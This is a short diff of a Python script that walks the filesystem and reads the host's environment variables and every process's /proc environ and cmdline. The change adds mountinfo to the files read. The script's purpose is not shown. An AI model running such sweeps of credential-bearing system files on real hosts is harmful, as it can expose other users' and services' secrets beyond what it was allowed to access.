@@ -52,7 +52,7 @@ for root, dirs, names in os.walk("/", onerror=lambda e: None):
             pass
 look("environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
 for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
-    for part in ("environ", "cmdline"):
+    for part in ("environ", "cmdline", "mountinfo"):
         try:
             with open(f"/proc/{pid}/{part}", "rb") as f:
                 look(f"/proc/{pid}/{part}", f.read())
